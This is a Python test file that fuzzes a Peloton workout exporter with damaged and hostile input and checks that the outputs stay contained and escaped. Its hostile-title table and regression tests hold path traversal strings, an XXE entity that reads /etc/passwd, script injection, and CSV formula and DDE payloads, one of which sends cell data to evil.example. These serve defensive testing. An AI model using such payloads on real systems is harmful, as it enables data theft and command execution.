"""Hostile and malformed input: nothing a raw body holds can crash a run or escape the output.

Two kinds of test:

* **Property tests** (hypothesis) take a real raw workout (every demo kind at a short
  duration, and a few recorded bodies from ``../shared/fixtures`` imported with the real
  importer) and damage it: any field at any depth replaced by ``null``, a wrong type, a
  huge, negative or non-finite number, hostile unicode or a 100k-character string; metric
  arrays cut or lengthened against the offsets; offsets shuffled or duplicated; keys
  dropped. Each damaged workout is stored in a real archive next to an intact control
  workout and the whole pipeline runs with every built-in format. The run must not raise;
  each workout ends ``exported``, ``skipped`` or ``failed`` with a one-line reason naming
  it; every file written is readable (TCX/GPX valid against the XSDs, strict JSON, CSV)
  and lies in the output folder; no temporary file is left behind.
* **Hostile titles** (plain tests): path traversal, reserved names, XML and CSV formula
  injection, control characters and a 1 MB title, checked file by file.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
import math
import random
import re
import tempfile
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lxml_html

from peloton_export.export.exporter import Exporter
from peloton_export.formats._xml import sanitize_text
from peloton_export.formats.csv import (
    NO_METRICS_COLUMNS,
    SAMPLE_COLUMNS,
    SET_COLUMNS,
    SUMMARY_COLUMNS,
    safe_cell,
)
from peloton_export.formats.report.index import SCRIPT as INDEX_SCRIPT
from peloton_export.normalize import normalize
from peloton_export.normalize._common import MAX_OFFSET
from peloton_export.plugins import PluginHost, create_host
from peloton_export.raw import RawWorkout
from peloton_export.results import ExportReport, Selection
from peloton_export.sinkkit.templates import TITLE_LIMIT, clean_title
from peloton_export.source.importers import import_paths
from peloton_export.specs import ExportContext
from peloton_export.store.archive import Archive, ArchiveError
from peloton_export.testing.synth import KINDS, synth_workout
from peloton_export.testing.synth.tiny import tiny_bodies
from tests.conftest import FIXTURES, SCHEMAS
from tests.hypothesis_budget import examples
from tests.xsd import validate

Bodies = dict[str, Any]
PathKey = str | int

CONTROL_ID = "c0" * 16
#: A few recorded bodies of different shapes (raw API pair, P2G files, cyrii42), all small.
REAL_FIXTURES = (
    "peloton-cyrii42/56a5ac93a93746f3986b72d3dfeb1621.json",
    "peloton-to-garmin/cycling_just_ride.json",
    "peloton-to-garmin/gym_workout.json",
    "peloton-to-garmin/strength_nonguide_with_exercise.json",
    "peloton-to-garmin/legacy-python-2021/peloton_workout_cycling_freestyle.json",
    "peloton-to-garmin/legacy-python-2021/peloton_workout_running_outdoor.json",
)
#: Files about the whole history in the output folder, beside the per-workout files.
HISTORY_FILES = ("summary.csv", "index-facts.cache")
SAFE_NAME = re.compile(r"^[A-Za-z0-9_-]{1,150}\.(tcx|gpx|csv|json|fit|html|sets\.csv|parquet-receipt)$")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
HUGE_TEXT = "x" * 100_000
#: summary.csv columns that carry text from Peloton (the others are numbers, ids, times).
TEXT_COLUMNS = frozenset(
    {"timezone", "discipline", "workout_type", "title", "instructor", "device_type", "origin"}
)


# --------------------------------------------------------------------------- base bodies


def _bodies(raw: RawWorkout) -> Bodies:
    bodies: Bodies = {"workout": raw.workout}
    if raw.performance_graph is not None:
        bodies["performance_graph"] = raw.performance_graph
    if raw.ride_details is not None:
        bodies["ride_details"] = raw.ride_details
    return bodies


def _base(name: str) -> Bodies:
    """A fresh copy of the base bodies called ``name``."""
    return json.loads(dict(_bases())[name])  # type: ignore[no-any-return]


@cache
def _demo_bases() -> tuple[tuple[str, str], ...]:
    """``(name, bodies as JSON text)`` for every demo kind, one minute long, plus a strength
    class without rep tracking whose plan has several movements per sub-segment (so the
    class-plan reader is exercised too)."""
    bases = [
        (f"demo:{kind}", json.dumps(_bodies(synth_workout(kind, seed=7, duration_s=60)))) for kind in KINDS
    ]
    plan = _bodies(synth_workout("strength", seed=8, duration_s=120))
    plan["workout"].pop("movement_tracker_data", None)
    for segment in plan["ride_details"]["segments"]["segment_list"]:
        for sub in segment.get("subsegments_v2") or []:
            sub["movements"] = (sub.get("movements") or []) * 2
    bases.append(("demo:strength-class-plan", json.dumps(plan)))
    return tuple(bases)


@cache
def _real_bases() -> tuple[tuple[str, str], ...]:
    """Recorded bodies, imported with the real importer into a scratch archive and read back."""
    if not FIXTURES.is_dir():
        return ()
    with tempfile.TemporaryDirectory() as tmp:
        archive = Archive(Path(tmp) / "archive")
        report = import_paths([FIXTURES / name for name in REAL_FIXTURES], archive)
        assert not report.failed, [r.line() for r in report.failed]
        return tuple((f"real:{wid}", json.dumps(_bodies(archive.load(wid)))) for wid in archive.ids())


@cache
def _bases() -> tuple[tuple[str, str], ...]:
    return _demo_bases() + _real_bases()


def _base_names() -> list[str]:
    return [name for name, _ in _bases()]


# --------------------------------------------------------------------------- mutations

_FIXED_HOSTILE: tuple[Any, ...] = (
    None,
    "",
    " ",
    "abc",
    "NaN",
    "-Infinity",
    "1e999",
    "12",
    "-1",
    [],
    [1, 2, 3],
    [None],
    {},
    {"a": 1},
    {"value": None, "display_unit": "mph"},
    True,
    False,
    0,
    -1,
    -1.5,
    -(2**63),
    2**63,
    2**64 + 1,
    10**400,
    1e308,
    -1e308,
    5e-324,
    float("nan"),
    float("inf"),
    float("-inf"),
    "\u202eediR\u202c",
    "\u05e8\u05db\u05d9\u05d1\u05d4 \u0645\u0631\u062d\u0628\u0627",
    "\U0001f6b4\u200d\u2640\ufe0f\U0001f525",
    "\x00",
    "a\x00b\x1b[31m",
    "\ud800",
    "x\udfffy",
    "\ufffe\uffff",
    HUGE_TEXT,
    "</Notes><script>alert(1)</script>",
    '=HYPERLINK("http://x")',
)

hostile_values: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(_FIXED_HOSTILE),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=20),
)


def _children(node: Any) -> list[PathKey]:
    if isinstance(node, dict):
        return sorted(node)
    if isinstance(node, list):
        return list(range(len(node)))
    return []


def _get(root: Any, path: tuple[PathKey, ...]) -> Any:
    node = root
    for key in path:
        node = node[key]
    return node


#: Keys the normalizer reads. The random walk prefers them, so that most damage lands
#: where it matters rather than in the dozens of fields nothing reads.
READ_KEYS = frozenset(
    {
        "start_time",
        "end_time",
        "status",
        "fitness_discipline",
        "ride",
        "peloton",
        "title",
        "name",
        "duration",
        "pedaling_start_offset",
        "id",
        "instructor",
        "instructor_id",
        "timezone",
        "total_work",
        "ftp_info",
        "ftp",
        "pause_time_elapsed",
        "is_outdoor",
        "device_type",
        "platform",
        "workout_type",
        "movement_tracker_data",
        "completed_movements_summary_data",
        "repetition_summary_data",
        "offset",
        "length",
        "completed_duration",
        "completed_reps",
        "completed_number",
        "is_hold",
        "tracking_type",
        "weight",
        "weight_data",
        "weight_value",
        "weight_unit",
        "movement_name",
        "movement_id",
        "seconds_since_pedaling_start",
        "metrics",
        "values",
        "display_unit",
        "slug",
        "alternatives",
        "zones",
        "min_value",
        "max_value",
        "display_name",
        "summaries",
        "average_summaries",
        "value",
        "location_data",
        "coordinates",
        "latitude",
        "longitude",
        "seconds_offset_from_start",
        "distance",
        "distance_display_unit",
        "accuracy",
        "is_gap",
        "is_location_data_accurate",
        "segment_list",
        "start_time_offset",
        "subsegments_v2",
        "movements",
        "rounds",
        "type",
        "target_metrics_performance_data",
        "target_metrics",
        "offsets",
        "start",
        "end",
        "lower",
        "upper",
        "effort_zones",
        "heart_rate_zone_durations",
        "segments",
        "splits_data",
        "distance_marker_display_unit",
    }
)


@st.composite
def json_paths(draw: st.DrawFn, root: Bodies) -> tuple[PathKey, ...]:
    """A path to any node below the top level, found by a random walk (every depth is
    reachable; keys the normalizer reads are chosen more often)."""
    path: list[PathKey] = [draw(st.sampled_from(sorted(root)))]
    node = root[path[0]]
    while True:
        children = _children(node)
        if not children or (len(path) > 1 and draw(st.integers(0, 3)) == 0):
            return tuple(path)
        read = [key for key in children if key in READ_KEYS]
        key = draw(st.sampled_from(read if read and draw(st.integers(0, 5)) else children))
        path.append(key)
        node = node[key]


@st.composite
def mutations(draw: st.DrawFn, root: Bodies) -> tuple[Any, ...]:
    """One mutation of ``root`` (described as a tuple, so a failing example reads well)."""
    kind = draw(st.sampled_from(("replace", "replace", "replace", "sprinkle", "drop", "resize", "offsets")))
    if kind == "replace":
        return ("replace", draw(json_paths(root)), draw(hostile_values))
    if kind == "sprinkle":  # hostile values at a few places of one array
        return ("sprinkle", draw(json_paths(root)), draw(hostile_values), draw(st.integers(0, 2**16)))
    if kind == "drop":
        return ("drop", draw(json_paths(root)))
    if kind == "resize":
        how = draw(st.sampled_from(("empty", "shorter", "longer", "one")))
        return ("resize", draw(st.integers(0, 20)), how)
    how = draw(st.sampled_from(("shuffle", "duplicate", "reverse", "empty", "longer", "shorter")))
    return ("offsets", how, draw(st.integers(0, 2**16)))


def _apply(root: Bodies, mutation: tuple[Any, ...]) -> None:
    kind = mutation[0]
    if kind in ("replace", "drop"):
        path = mutation[1]
        try:
            parent = _get(root, path[:-1])
            key = path[-1]
            if kind == "replace":
                parent[key] = copy.deepcopy(mutation[2])  # never share (or mutate) the constants
            elif len(path) > 1:
                del parent[key]
        except (KeyError, IndexError, TypeError):
            pass  # an earlier mutation changed the shape: nothing to do
        return
    if kind == "sprinkle":
        try:
            target = _get(root, mutation[1])
        except (KeyError, IndexError, TypeError):
            return
        if isinstance(target, list) and target:
            rng = random.Random(mutation[3])
            for _ in range(rng.randint(1, 3)):
                target[rng.randrange(len(target))] = copy.deepcopy(mutation[2])
        return
    graph = root.get("performance_graph")
    if not isinstance(graph, dict):
        return
    if kind == "resize":
        metrics = graph.get("metrics")
        if not isinstance(metrics, list) or not metrics:
            return
        metric = metrics[mutation[1] % len(metrics)]
        values = metric.get("values") if isinstance(metric, dict) else None
        if not isinstance(values, list):
            return
        how = mutation[2]
        if how == "empty":
            metric["values"] = []
        elif how == "shorter":
            metric["values"] = values[: len(values) // 3]
        elif how == "one":
            metric["values"] = values[:1]
        else:
            metric["values"] = values + values + [None, "x", 1e308]
        return
    offsets = graph.get("seconds_since_pedaling_start")
    if not isinstance(offsets, list):
        return
    how, seed = mutation[1], mutation[2]
    rng = random.Random(seed)
    if how == "shuffle":
        rng.shuffle(offsets)
    elif how == "duplicate":
        for _ in range(max(1, len(offsets) // 4)):
            if offsets:
                at = rng.randrange(len(offsets))
                offsets.insert(at, offsets[at])
    elif how == "reverse":
        offsets.reverse()
    elif how == "empty":
        offsets.clear()
    elif how == "longer":
        last = offsets[-1] if offsets and isinstance(offsets[-1], int) else 0
        offsets.extend(range(last + 1, last + 1 + len(offsets) + 5))
    else:
        del offsets[len(offsets) // 2 :]


@st.composite
def mutated_workouts(draw: st.DrawFn) -> tuple[str, list[tuple[Any, ...]]]:
    """``(base name, the mutations to apply in order)``: short to print when a case fails."""
    name = draw(st.sampled_from(_base_names()))
    bodies = _base(name)
    applied: list[tuple[Any, ...]] = []
    for _ in range(draw(st.integers(1, 4))):
        mutation = draw(mutations(bodies))
        _apply(bodies, mutation)
        applied.append(mutation)
    return name, applied


def _damaged(name: str, applied: list[tuple[Any, ...]]) -> Bodies:
    bodies = _base(name)
    for mutation in applied:
        _apply(bodies, mutation)
    return bodies


# --------------------------------------------------------------------------- checks


def _dump(value: Any) -> bytes:
    # ensure_ascii: lone surrogates become \udXXX escapes, exactly as a hostile server sends them.
    return json.dumps(value, ensure_ascii=True).encode("ascii")


def _store(archive: Archive, workout_id: str, bodies: Bodies, original: Bodies) -> None:
    """Store damaged bodies as a fetch or import would; a body whose own ``id`` no longer
    matches is written over an intact entry, as a damaged disk would do it."""
    encoded = {kind: _dump(body) for kind, body in bodies.items()}
    try:
        archive.put(workout_id, encoded, source="test")
    except (ArchiveError, ValueError, OverflowError):
        # OverflowError: Archive.put() cannot record an infinite start_time in meta.json
        # (see test_archive_put_with_an_infinite_start_time); the bodies still reach the
        # pipeline the way a damaged disk would deliver them.
        archive.put(workout_id, {kind: _dump(body) for kind, body in original.items()}, source="test")
        for kind, data in encoded.items():
            archive.body_path(workout_id, kind).write_bytes(data)


def _no_constants(name: str) -> Any:
    raise ValueError(f"non-standard JSON constant {name}")


def _check_outputs(report: ExportReport, root: Path, out: Path, formats: list[str]) -> None:
    """Everything the run wrote is in ``out``, readable, and every result is well formed."""
    for result in report.results:
        assert result.status in ("exported", "skipped", "failed"), (result.workout_id, result.status)
        if result.status in ("skipped", "failed"):
            assert result.reason, result
        if result.status == "failed":
            reason = result.reason
            assert "\n" not in reason and "\r" not in reason, reason
            assert result.workout_id in reason, reason
            assert "Traceback" not in reason, reason
            # The built-in writers must never crash on a normalized workout, and the
            # normalizer's last-resort net must not be what catches bad data.
            assert "failed in write" not in reason, reason
            assert "unexpected data (" not in reason, reason
        for file in result.files:
            if file.path is not None:
                assert file.path.resolve().parent == out.resolve(), file.path
    for path in root.rglob("*"):
        if path.is_dir():
            continue
        rel = path.relative_to(root)
        assert rel.parts[0] in ("archive", "out"), rel
        assert not path.name.startswith(".") and not path.name.endswith(".tmp"), rel
        if rel.parts[0] == "out" and rel.parts[1] == "parquet":  # the parquet format's dataset
            assert re.fullmatch(
                r"(workouts|samples)/year=\d+/month=\d+/[0-9a-z]+\.parquet", "/".join(rel.parts[2:])
            )
            continue
        if rel.parts[0] == "out":
            assert len(rel.parts) == 2 and (path.name in HISTORY_FILES or SAFE_NAME.match(path.name)), rel
    if not out.is_dir():
        return
    for path in sorted(out.iterdir()):
        if path.is_dir():
            continue
        data = path.read_bytes()
        suffix = path.suffix[1:]
        if path.name.endswith(".parquet-receipt"):
            receipt = json.loads(data.decode("utf-8"))
            assert receipt["schema"] == "peloton-export/parquet@2"
            assert all((out / f["path"]).is_file() for f in receipt["files"].values()), path.name
        elif path.name.endswith(".sets.csv"):
            rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            assert rows[0] == list(SET_COLUMNS)
            assert all(not row[4].startswith(FORMULA_START) for row in rows[1:]), path.name
        elif suffix == "html":
            tree = lxml_html.fromstring(data.decode("utf-8"))
            scripts = tree.xpath("//script")
            if path.name == "index.html":  # only our own sorting script, allowed by its CSP hash
                assert [s.text for s in scripts] == [INDEX_SCRIPT], path.name
            else:
                assert [s.get("type") for s in scripts] == ["application/json"], path.name
            assert not tree.xpath("//img|//iframe|//object|//embed|//*[@onerror]|//*[@onload]"), path.name
        elif suffix in ("tcx", "gpx"):
            if SCHEMAS.is_dir():
                errors = validate(suffix, data)
                assert errors == [], (path.name, errors[:3])
            else:
                etree.fromstring(data, etree.XMLParser(no_network=True, resolve_entities=False))
        elif suffix == "json":
            doc = json.loads(data.decode("utf-8"), parse_constant=_no_constants)
            assert doc["schema"] == "peloton-export/workout@2"
            assert len({len(column) for column in doc["samples"].values()}) <= 1
        elif path.name == "index-facts.cache":  # the html index's facts: JSON, no constants
            assert isinstance(json.loads(data.decode("utf-8"), parse_constant=_no_constants), dict)
        elif path.name == "summary.csv":
            rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            assert rows[0] == list(SUMMARY_COLUMNS)
            assert all(len(row) == len(SUMMARY_COLUMNS) for row in rows), path.name
            for row in rows[1:]:
                for column, cell in zip(SUMMARY_COLUMNS, row, strict=True):
                    if column in TEXT_COLUMNS:
                        assert not cell.startswith(FORMULA_START), (path.name, column, cell[:40])
                    elif column.endswith(("_s", "_m", "_w", "_kj", "_kcal", "_bpm", "_rpm", "_mps")):
                        assert cell == "" or math.isfinite(float(cell)), (path.name, column, cell[:40])
        elif suffix == "csv":
            rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            if rows[0] == list(NO_METRICS_COLUMNS):  # no per-second readings: summary only
                assert len(rows) == 2 and len(rows[1]) == len(NO_METRICS_COLUMNS), path.name
                continue
            assert rows[0] == list(SAMPLE_COLUMNS)
            for row in rows[1:]:
                assert len(row) == len(SAMPLE_COLUMNS), (path.name, row)
                for cell in row[1:]:
                    assert cell == "" or float(cell) == float(cell), (path.name, row)
        else:  # pragma: no cover - a format added later
            assert suffix in formats, path.name


_EARLIEST = datetime(2000, 1, 1, tzinfo=UTC)
_LATEST = datetime(2100, 1, 9, tzinfo=UTC)


def _check_model(value: Any, where: str = "workout") -> None:
    """Every number in a normalized workout is finite, every offset within a week, every
    time within the plausible range and every string writable as UTF-8."""
    if isinstance(value, bool) or value is None:
        return
    if isinstance(value, float):
        assert math.isfinite(value), where
    elif isinstance(value, int):
        assert abs(value) <= 2**53, (where, value)
        if where.endswith(("offset", "offset_s")):
            assert 0 <= value <= MAX_OFFSET, (where, value)
    elif isinstance(value, str):
        value.encode("utf-8")
    elif isinstance(value, datetime):
        assert _EARLIEST <= value <= _LATEST, (where, value)
    elif isinstance(value, tuple):
        for i, item in enumerate(value):
            _check_model(item, f"{where}[{i}]" if not dataclasses.is_dataclass(item) else where)
    elif dataclasses.is_dataclass(value):
        for f in dataclasses.fields(value):
            _check_model(getattr(value, f.name), f"{where}.{f.name}")


@cache
def _host() -> PluginHost:
    return create_host(entry_points=False)


def _run(archive: Archive, out: Path) -> tuple[ExportReport, list[str]]:
    host = _host()
    names = sorted(host.formats())
    exporter = Exporter(
        host=host,
        archive=archive,
        context=ExportContext(output_dir=out),
        formats=host.resolve("format", names),
    )
    return exporter.run(Selection()), names


def _put_control(archive: Archive) -> None:
    bodies = tiny_bodies(CONTROL_ID, samples=30, title="Control Ride")
    archive.put(CONTROL_ID, {k: _dump(v) for k, v in bodies.items()}, source="test")


# --------------------------------------------------------------------------- properties


@settings(
    max_examples=examples(100),
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(case=mutated_workouts())
def test_a_damaged_workout_exports_or_fails_alone(case: tuple[str, list[tuple[Any, ...]]]) -> None:
    name, applied = case
    bodies = _damaged(name, applied)
    original = _base(name)
    workout_id = str(original["workout"]["id"])
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        archive = Archive(root / "archive")
        _put_control(archive)
        _store(archive, workout_id, bodies, original)
        out = root / "out"
        report, formats = _run(archive, out)
        by_id = {r.workout_id: r for r in report.results}
        assert by_id[CONTROL_ID].status == "exported", by_id[CONTROL_ID]
        assert set(by_id) == {CONTROL_ID, workout_id}
        _check_outputs(report, root, out, formats)
        if by_id[workout_id].status == "exported":
            _check_model(normalize(archive.load(workout_id)))


@settings(
    max_examples=examples(40), deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    name=st.sampled_from(_base_names()),
    value=hostile_values,
    field=st.sampled_from(
        ("title", "name", "timezone", "fitness_discipline", "device_type", "platform", "workout_type")
    ),
)
def test_hostile_text_fields_never_escape(name: str, value: Any, field: str) -> None:
    """Top-level text fields (what file names and summaries are made of) get hostile values."""
    original = _base(name)
    bodies = _base(name)
    bodies["workout"][field] = value
    ride = bodies["workout"].get("ride")
    if field == "title" and isinstance(ride, dict):
        ride["title"] = value
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        archive = Archive(root / "archive")
        _store(archive, str(original["workout"]["id"]), bodies, original)
        report, formats = _run(archive, root / "out")
        assert len(report.results) == 1, name
        _check_outputs(report, root, root / "out", formats)


# --------------------------------------------------------------------------- hostile titles

HOSTILE_TITLES = {
    "traversal": "../../etc/passwd",
    "windows-traversal": "..\\..\\x",
    "absolute": "/etc/shadow",
    "reserved": "CON",
    "reserved-ext": "nul.txt",
    "xml-close": "</Notes><script>alert(1)</script>",
    "cdata-end": "ride ]]> more",
    "entity": "&xxe; &amp; &#0; &lt;",
    "doctype": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "control": "Ride\x00\x01\x07\x1b[31m red\x7f end",
    "control-lead": "\x00=1+1",
    "newlines": "line one\r\nline two\rthree",
    "quotes": "\"quoted\", 'single', a,b;c",
    "rtl-emoji": "\u202eediR\u202c \U0001f6b4\u200d\u2640\ufe0f \u0645\u0631\u062d\u0628\u0627",
    "lone-surrogate": "Ride \ud83d alone",
    "nonchars": "Ride \ufffe\uffff end",
    "megabyte": "M" * 1_000_000,
}


def _put_titled(archive: Archive, workout_id: str, title: str) -> None:
    bodies = tiny_bodies(workout_id, samples=30, title=title)
    archive.put(workout_id, {k: _dump(v) for k, v in bodies.items()}, source="test")


def _put_titled_outdoor(archive: Archive, title: str) -> str:
    raw = synth_workout("outdoor_run", seed=3, duration_s=60)
    bodies = _bodies(raw)
    bodies["workout"]["ride"]["title"] = title
    archive.put(raw.workout_id, {k: _dump(v) for k, v in bodies.items()}, source="test")
    return raw.workout_id


def _expected_title(title: str) -> str:
    """The title as the model keeps it: stripped, at most 500 characters."""
    return title.strip()[:500]


_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def _xml_text(title: str) -> str:
    """What an XML reader gets back: illegal characters dropped, CR/LF kept."""
    return sanitize_text(title)


@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ExportReport, dict[str, str]]:
    root = tmp_path_factory.mktemp("hostile-titles")
    archive = Archive(root / "archive")
    ids: dict[str, str] = {}
    for n, (case, title) in enumerate(HOSTILE_TITLES.items()):
        ids[case] = f"{n:02d}" + "ab" * 15
        _put_titled(archive, ids[case], title)
    ids["outdoor"] = _put_titled_outdoor(archive, HOSTILE_TITLES["xml-close"] + " \x00 ]]> &xxe;")
    report, _ = _run(archive, root / "out")
    return root, report, ids


def _files_of(report: ExportReport, workout_id: str) -> dict[str, Path]:
    result = next(r for r in report.results if r.workout_id == workout_id)
    assert result.status == "exported", result
    return {f.format: f.path for f in result.files if f.path is not None}


def test_hostile_titles_export_and_stay_in_the_output_folder(
    hostile_export: tuple[Path, ExportReport, dict[str, str]],
) -> None:
    root, report, ids = hostile_export
    out = root / "out"
    failed = [(r.workout_id, r.reason) for r in report.failed]
    assert {r.status for r in report.results} == {"exported"}, failed
    assert len(report.results) == len(ids)
    for path in root.rglob("*"):
        rel = path.relative_to(root)
        assert rel.parts[0] in ("archive", "out"), rel
    for path in out.iterdir():
        if path.is_dir():  # the parquet dataset, named by workout id (checked in _check_outputs)
            assert path.name == "parquet", path.name
            continue
        assert path.name in HISTORY_FILES or SAFE_NAME.match(path.name), path.name
        assert not path.name.startswith(".")
        stem_parts = path.stem.split("_")
        assert all(part.lower() not in ("con", "nul", "prn", "aux", "nul.txt") for part in stem_parts)
    stems = {p.stem for p in out.iterdir()}
    assert any("_etc-passwd_" in s for s in stems) and any("_con-_" in s for s in stems)
    assert any("_nul-txt_" in s for s in stems)


@pytest.mark.parametrize("case", sorted(HOSTILE_TITLES))
def test_hostile_title_round_trips_through_every_format(
    case: str, hostile_export: tuple[Path, ExportReport, dict[str, str]]
) -> None:
    _, report, ids = hostile_export
    files = _files_of(report, ids[case])
    expected = _expected_title(HOSTILE_TITLES[case])
    # JSON: strict, and the title is the model's title (lone surrogates replaced, as text
    # that cannot be UTF-8 must be).
    doc = json.loads(files["json"].read_bytes().decode("utf-8"), parse_constant=_no_constants)
    assert doc["title"] == _LONE_SURROGATE.sub("\ufffd", expected)
    # The activity title (issue 14) is one cleaned line of at most TITLE_LIMIT characters.
    title = doc["activity_title"]
    assert title == clean_title(title) and 0 < len(title) <= TITLE_LIMIT
    # TCX: valid, and the Notes start with the activity title after parsing (minus what
    # XML 1.0 cannot hold at all).
    tcx = files["tcx"].read_bytes()
    if SCHEMAS.is_dir():
        assert validate("tcx", tcx) == []
    tree = etree.fromstring(tcx, etree.XMLParser(no_network=True, resolve_entities=False))
    ns = {"t": "http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2"}
    notes = tree.findtext(".//t:Activity/t:Notes", namespaces=ns) or ""
    readable = _xml_text(title)
    assert notes.startswith(readable), (notes[:80], readable[:80])
    assert tree.find(".//t:script", namespaces=ns) is None and not list(tree.iter("script"))
    # CSV summary: the cell is neutralised and reads back.
    rows = {
        row["workout_id"]: row
        for row in csv.DictReader(
            io.StringIO(files["csv"].with_name("summary.csv").read_bytes().decode("utf-8"), newline="")
        )
    }
    cell = rows[ids[case]]["title"]
    assert not cell.startswith(FORMULA_START) and not (cell and ord(cell[0]) < 32)
    assert cell == safe_cell(doc["title"])


def test_hostile_title_in_gpx_is_escaped_and_valid(
    hostile_export: tuple[Path, ExportReport, dict[str, str]],
) -> None:
    _, report, ids = hostile_export
    files = _files_of(report, ids["outdoor"])
    gpx = files["gpx"].read_bytes()
    if SCHEMAS.is_dir():
        assert validate("gpx", gpx) == []
    tree = etree.fromstring(gpx, etree.XMLParser(no_network=True, resolve_entities=False))
    ns = {"g": "http://www.topografix.com/GPX/1/1"}
    title = _xml_text(_expected_title(HOSTILE_TITLES["xml-close"] + " \x00 ]]> &xxe;"))
    assert tree.findtext("g:metadata/g:name", namespaces=ns) == title
    assert tree.findtext("g:trk/g:name", namespaces=ns) == title
    assert not list(tree.iter("script"))


def test_megabyte_title_is_bounded() -> None:
    bodies = tiny_bodies("ab" * 16, title="M" * 1_000_000)
    workout = _normalize_bodies(bodies)
    assert len(workout.title) <= 500


# --------------------------------------------------------------------------- regressions
# Plain tests for the bugs the properties above found, one per fix.


def _normalize_bodies(bodies: Bodies) -> Any:
    return normalize(
        RawWorkout(
            workout_id=str(bodies["workout"]["id"]),
            workout=bodies["workout"],
            performance_graph=bodies.get("performance_graph"),
            ride_details=bodies.get("ride_details"),
        )
    )


def test_lone_surrogates_in_text_become_replacement_characters() -> None:
    bodies = tiny_bodies("ab" * 16, title="Ride \ud83d alone")
    bodies["workout"]["ride"]["instructor"]["name"] = "\udc00 Demo"
    workout = _normalize_bodies(bodies)
    assert workout.title == "Ride \ufffd alone" and workout.instructor == "\ufffd Demo"
    workout.title.encode("utf-8")


def test_a_lone_surrogate_title_does_not_stop_the_run(tmp_path: Path) -> None:
    archive = Archive(tmp_path / "archive")
    _put_titled(archive, "ab" * 16, "Ride \ud83d alone")
    _put_control(archive)
    report, _ = _run(archive, tmp_path / "out")
    assert {r.status for r in report.results} == {"exported"}
    assert "Ride \ufffd alone" in (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("text", ["\x00=1+1", "\x01+2", "\x7f@SUM(A1)", "\x1b-1"])
def test_a_leading_control_character_is_neutralised(text: str) -> None:
    # the control character is dropped and the formula that follows is still neutralised
    assert safe_cell(text) == "'" + text[1:]


def test_control_characters_and_bidi_overrides_never_reach_a_cell() -> None:
    cell = safe_cell("ctl\x00\x07\x1b[31mRED\x1b[0m\r\nline2\u202eevil")
    assert cell == "ctl[31mRED[0mline2evil" and cell.isprintable()


def test_every_summary_text_column_is_neutralised() -> None:
    from peloton_export.formats.csv import summary_row

    bodies = tiny_bodies("ab" * 16)
    bodies["workout"].update(
        timezone="=cmd|' /C calc'!A0", workout_type="+1", fitness_discipline="@x", device_type="-2"
    )
    row = summary_row(_normalize_bodies(bodies), ExportContext(output_dir=Path(".")))
    for column in ("timezone", "workout_type", "discipline", "device_type"):
        assert row[column].startswith("'"), (column, row[column])


def test_a_carriage_return_in_tcx_notes_survives_parsing() -> None:
    from peloton_export.formats._xml import xml_text

    assert xml_text("a\r\nb\rc") == "a&#13;\nb&#13;c"
    doc = etree.fromstring(f"<n>{xml_text('a' + chr(13) + chr(10) + 'b')}</n>".encode())
    assert doc.text == "a\r\nb"


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity"])
def test_import_rejects_a_non_finite_start_time(tmp_path: Path, literal: str) -> None:
    bodies = tiny_bodies("ab" * 16)
    text = json.dumps(bodies["workout"]).replace(
        f'"start_time": {bodies["workout"]["start_time"]}', f'"start_time": {literal}'
    )
    path = tmp_path / "in" / "x_workout.json"
    path.parent.mkdir()
    path.write_text(text)
    report = import_paths([path], Archive(tmp_path / "archive"))
    [result] = report.results
    assert result.status == "failed" and "start_time is not a number" in result.message
    assert "\n" not in result.message


def test_archive_put_with_an_infinite_start_time(tmp_path: Path) -> None:
    bodies = tiny_bodies("ab" * 16)
    workout = json.dumps(bodies["workout"]).replace(
        f'"start_time": {bodies["workout"]["start_time"]}', '"start_time": Infinity'
    )
    archive = Archive(tmp_path)
    assert archive.put("ab" * 16, {"workout": workout.encode()}) is True
    assert archive.meta("ab" * 16).start_time is None


def _strength() -> Bodies:
    return _bodies(synth_workout("strength", seed=1, duration_s=60))


def test_a_huge_class_plan_length_is_left_out_not_a_failure() -> None:
    bodies = _strength()
    bodies["workout"].pop("movement_tracker_data")
    subs = [
        sub
        for seg in bodies["ride_details"]["segments"]["segment_list"]
        for sub in seg.get("subsegments_v2") or []
        if sub.get("movements")
    ]
    subs[0]["movements"] = subs[0]["movements"] * 2
    subs[0]["length"] = 1e308
    workout = _normalize_bodies(bodies)  # was: "unexpected data (OverflowError: ...)"
    assert workout.sets and all(0 <= s.duration_s <= MAX_OFFSET for s in workout.sets)


@pytest.mark.parametrize("field", ["length", "completed_duration"])
def test_a_huge_tracked_set_duration_is_left_out(field: str) -> None:
    bodies = _strength()
    summary = bodies["workout"]["movement_tracker_data"]["completed_movements_summary_data"]
    items = summary["repetition_summary_data"]
    items[0][field] = 1e308
    workout = _normalize_bodies(bodies)
    assert all(s.duration_s <= MAX_OFFSET for s in workout.sets)


def test_target_offsets_beyond_any_workout_are_left_out() -> None:
    bodies = _bodies(synth_workout("cycling_class", seed=1, duration_s=60))
    targets = bodies["performance_graph"]["target_metrics_performance_data"]["target_metrics"]
    targets[0]["offsets"] = {"start": 0, "end": 1e308}
